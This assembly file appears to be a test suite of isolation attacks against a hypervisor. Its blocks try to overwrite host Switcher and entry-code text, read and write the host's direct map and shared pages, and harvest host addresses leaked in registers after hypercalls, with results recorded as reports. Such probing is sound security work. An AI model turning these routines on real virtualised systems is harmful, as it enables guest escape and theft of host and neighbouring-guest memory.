/*
 * The host's own memory, by the addresses at which the host has it: text, tables, PDA, descriptor, direct map. Who runs
 * at ring 3 is stopped by the supervisor bit; who runs at ring 1 only by what is not mapped, and by what is mapped
 * read-only.
 */

/*
 * Writes to the text of entry code and Switcher. One store there and the next event is the attacker's: the same bytes
 * are executed by the host, at ring 0. Tried by the text's own address and by its place in the direct map.
 */
ATTACK  write_switcher
        call    write_text
        END
write_text:
        movq    PARAMS + AP_TEXT, %rbx
        movq    PARAMS + AP_TEXT_BYTES, %r13
        call    1f
        movq    PARAMS + AP_DIRECT, %rbx
        addq    PARAMS + AP_TEXT_PA, %rbx
        movq    PARAMS + AP_TEXT_BYTES, %r13
1:      TRY     movb $0xcc, 0x40(%rbx)
        cmpl    $-1, %r12d
        jne     2f
        REPORT  R_WROTE, %rbx, $0xcc
2:      addq    $0x400, %rbx
        subq    $0x400, %r13
        ja      1b
        ret

/* The same as a process of the guest's. */
ATTACK  user_write_switcher
        GO_USER 1f
1:      call    write_text
        EXIT

/* Reads what there is in every page that both worlds have mapped. */
ATTACK  read_fixed_area
        call    read_fixed
        END
read_fixed:
        FOR_FIXED
        PEEK    %rbx
        NEXT_FIXED
        ret

ATTACK  user_read_fixed_area
        GO_USER 1f
1:      call    read_fixed
        EXIT

/* And writes there: not to what is of use, but next to it. Who can do that can do the other. */
ATTACK  write_fixed_area
        call    write_fixed
        END
write_fixed:
        FOR_FIXED
        addq    $8, %rbx
        POKE    %rbx
        NEXT_FIXED
        ret

ATTACK  user_write_fixed_area
        GO_USER 1f
1:      call    write_fixed
        EXIT

/*
 * The direct map: all of memory at one place, the host's and every other guest's. Where the whole host stays mapped
 * while a guest runs, this is what "mapped" means.
 */
ATTACK  read_direct_map
        call    read_direct
        END
read_direct:
        movq    PARAMS + AP_SECRET_VA, %rbx
        PEEK    %rbx
        movq    PARAMS + AP_VICTIM_VA, %rbx
        PEEK    %rbx
        ret

ATTACK  user_read_direct_map
        GO_USER 1f
1:      call    read_direct
        EXIT

ATTACK  write_direct_map
        call    write_direct
        END
write_direct:
        movq    PARAMS + AP_SECRET_VA, %rbx
        addq    $8, %rbx
        POKE    %rbx
        movq    PARAMS + AP_VICTIM_VA, %rbx
        addq    $8, %rbx
        POKE    %rbx
        ret

ATTACK  user_write_direct_map
        GO_USER 1f
1:      call    write_direct
        EXIT

/*
 * What a world switch leaves behind. Nobody promises %rcx and %r11 after a hypercall; a host that leaves its own
 * addresses in them has told where it lives.
 */
ATTACK  leftover_registers
        HCALL   LHCALL_FLUSH_ASYNC
        REPORT  R_READ, $0, %rcx
        REPORT  R_READ, $0, %r11
        REPORT  R_READ, $0, %rdx
        REPORT  R_READ, $0, %r8
        REPORT  R_READ, $0, %r9
        REPORT  R_READ, $0, %rbp
        TRY     ud2
        REPORT  R_READ, $0, %rcx
        REPORT  R_READ, $0, %r11
        GO_USER 1f
1:      movq    $-1, %rax
        syscall
        REPORT  R_READ, $0, %rcx
        REPORT  R_READ, $0, %r11
        REPORT  R_READ, $0, %rbx
        REPORT  R_READ, $0, %rdi
        str     %rax
        sldt    %rbx
        REPORT  R_READ, $0, %rbx
        EXIT
